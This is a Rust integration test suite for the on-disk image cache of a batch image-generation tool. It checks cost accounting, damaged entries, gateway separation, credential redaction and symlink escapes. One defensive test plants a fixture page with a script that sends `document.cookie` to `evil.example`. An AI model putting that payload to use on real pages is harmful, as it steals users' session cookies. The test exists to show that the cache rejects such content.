//! `--cache DIR` (or `cache:` in the manifest): a request fulfilled by any
//! earlier run, of any manifest, is taken from the store at no cost.

mod support;

use std::path::Path;

use support::*;

const SIZE: &str = "defaults: {image_size: {width: 32, height: 32}}\n";

/// `m.yaml`: one job (`cat`) over `seeds`, after `extra` top-level lines.
fn cats(dir: &Path, seeds: &str, extra: &str) -> std::path::PathBuf {
    write(
        dir,
        "m.yaml",
        &format!("{SIZE}{extra}seeds: {seeds}\njobs: [{{id: cat, prompt: a cat}}]\n"),
    )
}

fn by_id(
    out: &Path,
) -> std::collections::HashMap<String, std::collections::HashMap<String, String>> {
    results(out)
        .into_iter()
        .map(|r| (r["id"].clone(), r))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overlapping_manifests_pay_only_for_what_is_new() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let a = write(
        dir.path(),
        "a.yaml",
        &format!("{SIZE}seeds: [1, 2, 3]\njobs: [{{id: cat, prompt: a cat}}, {{id: dog, prompt: a dog}}]\n"),
    );
    // Another manifest, naming the same cache itself: one row the same
    // request as a's (other ids, same prompt and seed), two new.
    let b = write(
        dir.path(),
        "b.yaml",
        &format!("{SIZE}cache: cache\nseeds: [3, 4]\njobs: [{{id: kitten, prompt: a cat}}, {{id: owl, prompt: an owl, seeds: [1]}}]\n"),
    );
    let (out_a, out_b) = (dir.path().join("out-a"), dir.path().join("out-b"));
    let o = run(
        &a,
        &out_a,
        &sim.url(),
        &["--cache", cache.to_str().unwrap()],
    )
    .await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(sim.ledger().accepted, 6);
    assert!(by_id(&out_a).values().all(|r| r["cached"] == "false"));

    let o = run(&b, &out_b, &sim.url(), &[]).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(summary(&out_b)["cached"], 1);
    assert_eq!(sim.ledger().accepted, 8, "kitten_s4 and owl_s1 are new");
    assert_never_paid_twice(&sim.ledger());
    let rows = by_id(&out_b);
    let hit = &rows["kitten_s3"];
    assert_eq!(
        (
            hit["status"].as_str(),
            hit["cached"].as_str(),
            hit["cost_usd"].as_str()
        ),
        ("completed", "true", "0.000000")
    );
    assert_eq!(hit["request_id"], "");
    assert_eq!(hit["sha256"], by_id(&out_a)["cat_s3"]["sha256"]);
    assert_eq!(
        sha256_file(&out_b.join(&hit["files"])),
        hit["sha256"],
        "the file is whole"
    );
    assert_eq!(rows["kitten_s4"]["cached"], "false");
    let s = summary(&out_b);
    assert_eq!(s["cached"], 1);
    assert_eq!(s["rows_by_status"]["completed"], 3);
    assert_eq!(s["cost_usd"], 0.1);

    // A rerun of b is plain resume: nothing taken, nothing paid.
    let o = run(&b, &out_b, &sim.url(), &[]).await;
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(sim.ledger().accepted, 8);
    assert_eq!(by_id(&out_b)["kitten_s3"]["cached"], "true");

    // Without the cache, the same manifest pays for everything.
    let o = run(&a, &dir.path().join("out-c"), &sim.url(), &[]).await;
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(sim.ledger().accepted, 14);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_damaged_entry_is_paid_for_again_and_stored_afresh() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1]", "");
    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0));
    let stored: Vec<_> = walk(&cache)
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "jpg" || e == "png"))
        .collect();
    assert_eq!(stored.len(), 1, "{stored:?}");
    std::fs::remove_file(&stored[0]).unwrap();
    std::fs::write(&stored[0], b"not the picture").unwrap();

    let two = dir.path().join("two");
    let o = run(&m, &two, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("not taken from the cache"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(sim.ledger().accepted, 2, "paid again");
    assert_eq!(by_id(&two)["cat_s1"]["cached"], "false");
    assert_files_are_what_was_served(&two, &sim.ledger());
    assert!(walk(&two)
        .iter()
        .all(|p| !p.to_string_lossy().contains(".part")));

    let three = dir.path().join("three");
    let o = run(&m, &three, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(sim.ledger().accepted, 2, "stored afresh, taken from there");
    assert_eq!(by_id(&three)["cat_s1"]["cached"], "true");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runs_sharing_a_cache_at_once_are_safe_and_gateways_never_mix() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "{from: 0, count: 20}", "");
    let (one, two) = (dir.path().join("one"), dir.path().join("two"));
    let url = sim.url();
    let (a, b) = tokio::join!(run(&m, &one, &url, &flag), run(&m, &two, &url, &flag));
    assert_eq!(a.status.code(), Some(0), "{}", text(&a.stderr));
    assert_eq!(b.status.code(), Some(0), "{}", text(&b.stderr));
    // Every entry is whole: its files are what entry.json says.
    let entries: Vec<_> = walk(&cache)
        .into_iter()
        .filter(|p| p.ends_with("entry.json"))
        .collect();
    assert_eq!(entries.len(), 20);
    for e in &entries {
        let json: serde_json::Value = serde_json::from_slice(&std::fs::read(e).unwrap()).unwrap();
        let f = &json["files"][0];
        let file = e.parent().unwrap().join(f["name"].as_str().unwrap());
        assert_eq!(sha256_file(&file), f["sha256"].as_str().unwrap());
    }
    assert!(
        walk(&cache)
            .iter()
            .all(|p| !p.to_string_lossy().contains(".tmp-")),
        "no temporary folder is left"
    );
    let paid = sim.ledger().accepted;
    let three = dir.path().join("three");
    let o = run(&m, &three, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(sim.ledger().accepted, paid, "all 20 from the cache");
    assert_eq!(summary(&three)["cached"], 20);

    // Another gateway's images are never taken for this one's.
    let other = start(quick()).await;
    let o = run(&m, &dir.path().join("four"), &other.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(other.ledger().accepted, 20);
}

#[test]
fn a_cache_that_is_not_a_folder_is_exit_2_before_anything_is_sent() {
    let dir = tempfile::tempdir().unwrap();
    let m = cats(dir.path(), "[1]", "");
    let file = write(dir.path(), "cache", "a file");
    // Nothing listens here: a request sent would fail the run with exit 3.
    let o = command(
        &m,
        &dir.path().join("out"),
        "http://127.0.0.1:9",
        &["--cache", file.to_str().unwrap()],
    )
    .output()
    .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("cache"), "{}", text(&o.stderr));

    let bad = cats(dir.path(), "[1]", "cache: [1]\n");
    let o = command(&bad, &dir.path().join("out2"), "http://127.0.0.1:9", &[])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o.stderr).contains("cache"), "{}", text(&o.stderr));
}

/// The `entry.json` files of the store.
fn entries(cache: &Path) -> Vec<std::path::PathBuf> {
    walk(cache)
        .into_iter()
        .filter(|p| p.ends_with("entry.json"))
        .collect()
}

/// Writes `bytes` over the start of `path`, in place (the same file, as an
/// editor that saves in place or a stray `dd` would).
fn scribble(path: &Path, bytes: &[u8]) {
    use std::io::{Seek, Write};
    let mut f = std::fs::OpenOptions::new().write(true).open(path).unwrap();
    f.seek(std::io::SeekFrom::Start(40)).unwrap();
    f.write_all(bytes).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_gateways_behind_one_host_never_share_a_cache_or_a_folder() {
    let (a, b) = (start(quick()).await, start(quick()).await);
    let host = PathProxy::start(vec![("/a", a.url()), ("/b", b.url())]).await;
    let (url_a, url_b) = (format!("{}/a", host.url), format!("{}/b", host.url));
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1, 2]", "");
    let one = dir.path().join("one");
    let o = run(&m, &one, &url_a, &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(a.ledger().accepted, 2);

    // The gateway at /b pays for its own images: /a's are not its.
    let two = dir.path().join("two");
    let o = run(&m, &two, &url_b, &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(
        (b.ledger().accepted, summary(&two)["cached"].as_u64()),
        (2, Some(0)),
        "the gateway at /b served its own rows"
    );
    assert_files_are_what_was_served(&two, &b.ledger());

    // The folder made against /a is refused for /b, before anything is sent.
    let m3 = cats(dir.path(), "[1, 2, 3]", "");
    let o = run(&m3, &one, &url_b, &flag).await;
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains(&url_a) && err.contains(&url_b), "{err}");
    assert_eq!(b.ledger().submit_calls, 2);

    // Spellings of one gateway agree: letter case of the scheme, the default
    // port, a trailing slash, dot segments; a user name and password are
    // never written down.
    let hostport = host.url.trim_start_matches("http://");
    let same = format!("HTTP://someone:hunter2@{hostport}/x/../a/");
    let o = run(&m3, &one, &same, &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(a.ledger().accepted, 3, "only the new row is paid for");
    let three = dir.path().join("three");
    let o = run(&m3, &three, &format!("{url_a}/"), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(summary(&three)["cached"], 3);
    assert_eq!(a.ledger().accepted, 3);
    for out in [&one, &three, &cache] {
        for p in walk(out) {
            let bytes = std::fs::read(&p).unwrap();
            let name = p.to_string_lossy();
            assert!(
                !name.contains("hunter2") && !bytes.windows(7).any(|w| w == b"hunter2"),
                "a credential is in {name}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_laid_out_by_origin_serves_only_base_urls_without_a_path() {
    let (a, b, root) = (
        start(quick()).await,
        start(quick()).await,
        start(quick()).await,
    );
    let host = PathProxy::start(vec![("/a", a.url()), ("/b", b.url()), ("", root.url())]).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1]", "");
    let o = run(
        &m,
        &dir.path().join("one"),
        &format!("{}/a", host.url),
        &flag,
    )
    .await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // The store as earlier versions laid it out: one folder per origin.
    let legacy = cache.join(batchgen::plan::sanitize(&host.url));
    for e in std::fs::read_dir(&cache).unwrap() {
        let e = e.unwrap().path();
        if e != legacy {
            std::fs::rename(&e, &legacy).unwrap();
        }
    }
    assert_eq!(entries(&cache).len(), 1);

    let o = run(
        &m,
        &dir.path().join("two"),
        &format!("{}/b", host.url),
        &flag,
    )
    .await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(
        b.ledger().accepted,
        1,
        "an entry without its path is not /b's"
    );

    let o = run(&m, &dir.path().join("three"), &host.url, &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(
        root.ledger().accepted,
        0,
        "the origin's own entries still serve it"
    );
    assert_eq!(summary(&dir.path().join("three"))["cached"], 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_entry_that_is_not_an_image_is_a_miss() {
    use sha2::Digest;
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1]", "");
    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let page = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>";
    let sha = batchgen::disk::hex(&sha2::Sha256::digest(page));
    // First under the name of an image, then under its own name.
    for (round, name) in [(2u64, "0.png"), (3, "0.html")] {
        let entry = entries(&cache);
        assert_eq!(entry.len(), 1);
        let folder = entry[0].parent().unwrap();
        for f in walk(folder) {
            std::fs::remove_file(f).unwrap();
        }
        std::fs::write(folder.join(name), page).unwrap();
        let json = format!(
            r#"{{"files":[{{"name":"{name}","bytes":{},"sha256":"{sha}"}}]}}"#,
            page.len()
        );
        std::fs::write(&entry[0], json).unwrap();

        let out = dir.path().join(format!("out{round}"));
        let o = run(&m, &out, &sim.url(), &flag).await;
        assert_eq!(o.status.code(), Some(0), "{name}: {}", text(&o.stderr));
        assert!(
            text(&o.stderr).contains("not taken from the cache"),
            "{name}: {}",
            text(&o.stderr)
        );
        assert_eq!(sim.ledger().accepted, round, "{name}: paid for, not served");
        assert_eq!(by_id(&out)["cat_s1"]["cached"], "false", "{name}");
        assert_files_are_what_was_served(&out, &sim.ledger());
        for p in walk(&out.join("images")) {
            let bytes = std::fs::read(&p).unwrap();
            assert!(
                !bytes.windows(8).any(|w| w == b"<script>"),
                "{}",
                p.display()
            );
        }
    }
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outputs_never_share_a_file_with_the_store() {
    use std::os::unix::fs::MetadataExt;
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1, 2]", "");
    let (one, two) = (dir.path().join("one"), dir.path().join("two"));
    let images = |out: &Path| -> Vec<std::path::PathBuf> {
        results(out)
            .iter()
            .flat_map(|r| {
                r["files"]
                    .split(';')
                    .map(|f| out.join(f))
                    .collect::<Vec<_>>()
            })
            .collect()
    };
    let stored = |cache: &Path| -> Vec<std::path::PathBuf> {
        walk(cache)
            .into_iter()
            .filter(|p| !p.ends_with("entry.json"))
            .collect()
    };
    let o = run(&m, &one, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = run(&m, &two, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(summary(&two)["cached"], 2);
    let inodes: Vec<(u64, u64)> = stored(&cache)
        .iter()
        .map(|p| std::fs::metadata(p).map(|m| (m.dev(), m.ino())).unwrap())
        .collect();
    assert_eq!(inodes.len(), 2);
    for f in images(&one).iter().chain(&images(&two)) {
        let meta = std::fs::metadata(f).unwrap();
        assert_eq!(meta.nlink(), 1, "{} has other names", f.display());
        assert!(
            !inodes.contains(&(meta.dev(), meta.ino())),
            "{}",
            f.display()
        );
    }

    // Editing an output in place leaves the store whole: a third folder
    // takes both rows from it, at no cost.
    for f in images(&one) {
        scribble(&f, b"edited in place");
    }
    let o = run(&m, &dir.path().join("three"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(summary(&dir.path().join("three"))["cached"], 2);
    assert_eq!(sim.ledger().accepted, 2, "nothing paid again");

    // Damaging the store leaves the outputs as they were.
    for f in stored(&cache) {
        scribble(&f, b"damaged in place");
    }
    for row in results(&two) {
        assert_eq!(sha256_file(&two.join(&row["files"])), row["sha256"]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_damaged_row_from_the_cache_is_restored_from_it_free_and_never_called_charged() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1]", "");
    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let two = dir.path().join("two");
    let o = run(&m, &two, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let row = by_id(&two)["cat_s1"].clone();
    assert_eq!(row["cached"], "true");
    let file = two.join(&row["files"]);
    let never_charged = |o: &std::process::Output, out: &Path| {
        let all = format!(
            "{}{}{}",
            text(&o.stderr),
            text(&o.stdout),
            std::fs::read_to_string(out.join("results.csv")).unwrap()
        );
        assert!(
            !all.contains("possibly charged") && !all.contains("--resubmit-lost"),
            "{all}"
        );
        assert_eq!(summary(out)["possibly_charged_usd"], 0.0);
        assert_eq!(summary(out)["cost_usd"], 0.0);
    };

    // Damaged in place (same size, so only --verify sees it): restored from
    // the store, at no cost.
    scribble(&file, b"damaged");
    let o = run_loud(
        &m,
        &two,
        &sim.url(),
        &["--cache", cache.to_str().unwrap(), "--verify"],
    )
    .await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    never_charged(&o, &two);
    let now = by_id(&two)["cat_s1"].clone();
    assert_eq!(
        (now["status"].as_str(), now["cached"].as_str()),
        ("completed", "true")
    );
    assert_eq!(sha256_file(&file), row["sha256"], "restored");
    assert_eq!(sim.ledger().accepted, 1, "nothing paid");

    // Damaged again, and the store gone too: it cost nothing here, and it
    // is taken again once a store has it, or submitted (paid) when asked.
    let away = dir.path().join("away");
    let is_gone = |o: &std::process::Output| {
        assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
        never_charged(o, &two);
        let failed = by_id(&two)["cat_s1"].clone();
        assert_eq!(failed["status"], "failed");
        assert_eq!(
            (
                failed["cost_usd"].as_str(),
                failed["possibly_charged_usd"].as_str()
            ),
            ("", ""),
            "{failed:?}"
        );
        assert!(
            failed["error_message"].contains("--retry-failed"),
            "{failed:?}"
        );
        assert_eq!(sim.ledger().accepted, 1, "nothing paid without being asked");
    };
    scribble(&file, b"damaged");
    std::fs::rename(&cache, &away).unwrap();
    is_gone(&run_loud(&m, &two, &sim.url(), &[&flag[..], &["--verify"]].concat()).await);
    std::fs::remove_dir_all(&cache).unwrap(); // the empty store that run made
    std::fs::rename(&away, &cache).unwrap();
    let o = run_loud(&m, &two, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    never_charged(&o, &two);
    assert_eq!(by_id(&two)["cat_s1"]["cached"], "true");
    assert_eq!(sha256_file(&file), row["sha256"], "restored");

    scribble(&file, b"damaged");
    is_gone(&run_loud(&m, &two, &sim.url(), &["--verify"]).await);
    let o = run(&m, &two, &sim.url(), &["--retry-failed"]).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(sim.ledger().accepted, 2);
    assert_eq!(by_id(&two)["cat_s1"]["cached"], "false");
    assert_files_are_what_was_served(&two, &sim.ledger());
}

/// A paid row whose image was deleted, whose result the gateway no longer
/// keeps, while the cache holds its images: it comes back from the cache,
/// free, not declared lost; what the folder paid stays what it paid.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_paid_row_the_cache_holds_is_restored_from_it_not_declared_lost() {
    let sim = start(quick()).await;
    let addr = sim.addr;
    let dir = tempfile::tempdir().unwrap();
    let m = seed_sweep(dir.path(), 2);
    let out = dir.path().join("out");
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let o = run(&m, &out, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(summary(&out)["cost_usd"], 0.1);
    for f in std::fs::read_dir(out.join("images")).unwrap() {
        let p = f.unwrap().path();
        if p.file_name()
            .unwrap()
            .to_string_lossy()
            .starts_with("a_s1_")
        {
            std::fs::remove_file(&p).unwrap();
        }
    }
    // The gateway, restarted, keeps no earlier result.
    let served = sim.ledger();
    sim.stop().await;
    let sim = batchgen::sim::start(quick(), addr).await.unwrap();
    let o = run(&m, &out, &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let rows = results(&out);
    assert!(rows.iter().all(|r| r["status"] == "completed"), "{rows:?}");
    assert_eq!(summary(&out)["cost_usd"], 0.1, "{:#}", summary(&out));
    assert_eq!(sim.ledger().submit_calls, 0, "nothing asked of the gateway");
    assert_files_are_what_was_served(&out, &served);
}

/// A submit that may have been charged (answered 502), retried with
/// `--retry-failed` and taken from the cache: the possible charge of the
/// first submit stays reported.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_possible_charge_is_still_reported_after_a_cache_hit() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let m = seed_sweep(dir.path(), 1);
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    // Another folder fills the cache.
    let o = run(&m, &dir.path().join("a"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // This folder's submit is charged and answered 502 (no cache given).
    sim.set_config(batchgen::sim::SimConfig {
        submit_502_rate: 1.0,
        ..quick()
    });
    let b = dir.path().join("b");
    let o = run(&m, &b, &sim.url(), &[]).await;
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert_eq!(results(&b)[0]["error_code"], "SUBMIT_UNCERTAIN");
    assert_eq!(summary(&b)["possibly_charged_usd"], 0.05);
    sim.set_config(quick());
    let o = run(
        &m,
        &b,
        &sim.url(),
        &[&flag[..], &["--retry-failed"]].concat(),
    )
    .await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let row = &results(&b)[0];
    assert_eq!(
        (row["status"].as_str(), row["cached"].as_str()),
        ("completed", "true")
    );
    assert_eq!(
        summary(&b)["possibly_charged_usd"],
        0.05,
        "{:#}",
        summary(&b)
    );
    assert_eq!(
        sim.ledger().accepted,
        2,
        "the cache's fill and the 502'd submit"
    );
}

/// An entry whose image is a link out of the store (to a file whose bytes
/// match, even) is a miss: the store serves only files it holds.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_entry_that_links_out_of_the_store_is_a_miss() {
    let sim = start(quick()).await;
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let flag = ["--cache", cache.to_str().unwrap()];
    let m = cats(dir.path(), "[1]", "");
    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // First the entry's image, then its whole folder, made a link to a
    // copy outside the store.
    for (round, out, what) in [(2u64, "two", "image"), (3, "three", "folder")] {
        let folder = entries(&cache)[0].parent().unwrap().to_path_buf();
        let linked = match what {
            "image" => walk(&folder)
                .into_iter()
                .find(|f| f.file_name().unwrap() != "entry.json")
                .unwrap(),
            _ => folder,
        };
        let outside = dir.path().join(format!("outside-{what}"));
        std::fs::rename(&linked, &outside).unwrap();
        std::os::unix::fs::symlink(&outside, &linked).unwrap();
        let out = dir.path().join(out);
        let o = run(&m, &out, &sim.url(), &flag).await;
        assert_eq!(o.status.code(), Some(0), "{what}: {}", text(&o.stderr));
        assert!(
            text(&o.stderr).contains("not taken from the cache"),
            "{what}: {}",
            text(&o.stderr)
        );
        assert_eq!(
            sim.ledger().accepted,
            round,
            "{what}: paid for, not served through the link"
        );
        assert_eq!(by_id(&out)["cat_s1"]["cached"], "false", "{what}");
    }
}
